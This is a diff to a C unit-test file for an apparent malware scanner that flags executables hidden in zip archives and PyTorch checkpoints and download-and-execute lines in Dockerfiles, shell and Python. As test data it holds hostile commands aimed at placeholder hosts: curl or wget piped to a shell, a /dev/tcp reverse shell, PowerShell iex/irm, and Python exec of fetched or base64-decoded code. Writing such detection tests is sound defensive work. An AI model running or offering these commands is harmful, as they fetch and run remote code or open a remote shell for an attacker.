@@ -76,8 +76,10 @@ static void members(void **state)
 		  "GH-EXE-0001" },
 		{ "a program between members", "zip", NULL, NULL, GH_MEMBER_HIDDEN, false, GH_SPAN(ELF),
 		  "GH-EXE-0001" },
-		{ "a script in a zip", "zip", NULL, NULL, GH_MEMBER_FILE, false, GH_SPAN("#!/bin/sh\nid\n"),
-		  "GH-EXE-0002" },
+		{ "a script in a zip is its reader's", "zip", NULL, NULL, GH_MEMBER_FILE, false,
+		  GH_SPAN("#!/bin/sh\nid\n"), "" },
+		{ "a script in a checkpoint", "pytorch-zip", NULL, NULL, GH_MEMBER_FILE, false,
+		  GH_SPAN("#!/bin/sh\nid\n"), "GH-EXE-0001" },
 		{ "Python in a zip is the text reader's", "zip", NULL, NULL, GH_MEMBER_FILE, false, GH_SPAN(PYTHON),
 		  "" },
 		{ "Python in a checkpoint", "pytorch-zip", NULL, NULL, GH_MEMBER_FILE, false, GH_SPAN(PYTHON),
@@ -117,29 +119,31 @@ static void scripts(void **state)
 		struct gh_span in;
 		bool bad;
 	} rows[] = {
-		{ "shell", GH_SPAN("#!/bin/sh\ncurl http://x.example/x|sh\n"), true },
-		{ "shell", GH_SPAN("wget -qO- https://x.example | sudo bash -s -- -y\n"), true },
-		{ "shell", GH_SPAN("bash -c \"$(curl -fsSL https://x.example)\"\n"), true },
-		{ "shell", GH_SPAN("curl https://x.example \\\n  | python3\n"), true },
-		{ "shell", GH_SPAN("echo aWQK | base64 -d | sh\n"), true },
-		{ "shell", GH_SPAN("bash -i >& /dev/tcp/192.0.2.1/443 0>&1\n"), true },
-		{ "shell", GH_SPAN("source <(curl -s https://x.example)\n"), true },
-		{ "PowerShell script", GH_SPAN("iex `(irm https://x.example)`\n"), true },
-		{ "shell", GH_SPAN("#!/bin/sh\n# curl http://x.example/x|sh\necho hello\n"), false },
-		{ "shell", GH_SPAN("curl -O https://x.example/data.csv\nsh build.sh\n"), false },
-		{ "shell", GH_SPAN("curl https://x.example/data | tee flush.log | show\n"), false },
-		{ "python", GH_SPAN("# curl x | sh\n"), false },
-		{ "python",
+		{ "Dockerfile", GH_SPAN("#!/bin/sh\ncurl http://x.example/x|sh\n"), true },
+		{ "Dockerfile", GH_SPAN("wget -qO- https://x.example | sudo bash -s -- -y\n"), true },
+		{ "Dockerfile", GH_SPAN("bash -c \"$(curl -fsSL https://x.example)\"\n"), true },
+		{ "Dockerfile", GH_SPAN("curl https://x.example \\\n  | python3\n"), true },
+		{ "Dockerfile", GH_SPAN("echo aWQK | base64 -d | sh\n"), true },
+		{ "Dockerfile", GH_SPAN("bash -i >& /dev/tcp/192.0.2.1/443 0>&1\n"), true },
+		{ "Dockerfile", GH_SPAN("source <(curl -s https://x.example)\n"), true },
+		{ "shell", GH_SPAN("curl x | sh\n"), false }, /* these have checks of their own */
+		{ "python", GH_SPAN("os.system('curl http://x.example | sh')\n"), false },
+		{ "PowerShell script", GH_SPAN("iex `(irm https://x.example)`\n"), false },
+		{ "Dockerfile", GH_SPAN("#!/bin/sh\n# curl http://x.example/x|sh\necho hello\n"), false },
+		{ "Dockerfile", GH_SPAN("curl -O https://x.example/data.csv\nsh build.sh\n"), false },
+		{ "Dockerfile", GH_SPAN("curl https://x.example/data | tee flush.log | show\n"), false },
+		{ "Python source", GH_SPAN("# curl x | sh\n"), false },
+		{ "Python source",
 		  GH_SPAN("import os\nclass E:\n  def f(s):\n    exec(urllib.request.urlopen('http://x').read())\n"),
 		  true },
-		{ "python", GH_SPAN("x = base64.b64decode(y)\nif 1:\n  exec(x)\n"), true },
-		{ "python", GH_SPAN("os.system('curl http://x.example | sh')\n"), true },
+		{ "Python source", GH_SPAN("x = base64.b64decode(y)\nif 1:\n  exec(x)\n"), true },
+		{ "Python source", GH_SPAN("os.system('curl http://x.example | sh')\n"), true },
 		{ "template", GH_SPAN("{{ x.y }}\ncurl http://x.example | sh\n"), false },
 		{ "JavaScript source", GH_SPAN("let x = 1;\nRedirections to /dev/tcp/host/port\n"), false },
-		{ "python", GH_SPAN("import x\ncurl http://x.example | sh\n"), false },
-		{ "python", GH_SPAN("b64decode(x) is slow\nexec() raises\n"), false },
+		{ "Python source", GH_SPAN("import x\ncurl http://x.example | sh\n"), false },
+		{ "Python source", GH_SPAN("b64decode(x) is slow\nexec() raises\n"), false },
 		{ "Dockerfile", GH_SPAN("FROM a:b\nRUN curl http://x.example | sh\n"), true },
-		{ "python", GH_SPAN("r = requests.get(url)\nmodel.eval()\nre.compile('x')\n"), false },
+		{ "Python source", GH_SPAN("r = requests.get(url)\nmodel.eval()\nre.compile('x')\n"), false },
 	};
 	for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
 		struct gh_src_mem mem;
@@ -190,7 +194,7 @@ static void across_windows(void **state)
 		memset(text, 'x', sizeof text);
 		memcpy(text + pad, "\ncurl http://x.example|sh\n", 26);
 		struct gh_src_mem mem;
-		struct gh_code c = { .language = "shell",
+		struct gh_code c = { .language = "Dockerfile",
 				     .src = gh_src_mem(&mem, (struct gh_span){ text, sizeof text }) };
 		struct gh_event ev = { .kind = GH_EV_CODE, .at = { 0, sizeof text }, .u.code = &c };
 		struct gh_scene s = { .format = "script", .find = note };
